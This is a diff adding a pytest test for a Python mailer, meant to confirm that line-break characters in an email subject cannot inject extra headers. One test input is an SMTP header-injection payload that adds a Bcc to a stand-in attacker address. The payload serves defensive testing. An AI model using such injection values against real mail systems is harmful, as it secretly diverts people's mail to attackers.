@@ -227,6 +227,24 @@ def test_an_address_is_one_recipient_or_none(address: str) -> None:
     assert all(len(inbox.message()["To"].addresses) == 1 for _ in inbox.taken)
 
 
+@pytest.mark.parametrize("end", ["\r\nBcc: thief@evil.example\r\n\r\n", "\n", "\u2028", "\x85", "\x0b", "\x1e", "\r"])
+def test_a_subject_is_one_line_whatever_is_in_it(end: str) -> None:
+    """Of whatever a reader of mails takes for the end of a line: it sends the mail to nobody else, and is sent."""
+    inbox = Inbox()
+
+    async def work() -> None:
+        async with listening(inbox) as port:
+            await mailer(f"smtp+plain://127.0.0.1:{port}").send(replace(MAIL, subject=f"You are invited to{end}Acme"))
+
+    run(work)
+    message = inbox.message()
+    assert str(message["Subject"]).startswith("You are invited to")
+    assert str(message["Subject"]).endswith("Acme")
+    assert message["Bcc"] is None
+    assert [envelope.rcpt_tos for envelope in inbox.taken] == [[MAIL.recipient]]
+    assert "Hello ada" in message.get_content()
+
+
 def test_the_sandbox_prints_mails_for_people() -> None:
     stream = io.StringIO()
     asyncio.run(ConsoleMailer(stream).send(MAIL))
